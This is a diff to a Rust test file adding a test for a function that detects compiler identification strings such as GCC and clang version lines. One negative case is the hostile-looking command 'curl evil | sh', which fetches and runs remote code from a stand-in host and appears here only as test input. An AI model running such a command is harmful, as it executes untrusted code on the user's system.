@@ -48,3 +48,11 @@ fn headers_that_moved_still_say_the_same() {
         (Cause::Content, "between sections".into())
     );
 }
+
+#[test]
+fn a_comment_names_tools() {
+    assert!(super::names_a_tool("GCC: (Debian 12.2.0-14) 12.2.0"));
+    assert!(super::names_a_tool("Debian clang version 14.0.6"));
+    assert!(!super::names_a_tool("GCe: (Debian 12.2.0-14) 12.2.0"));
+    assert!(!super::names_a_tool("curl evil | sh"));
+}
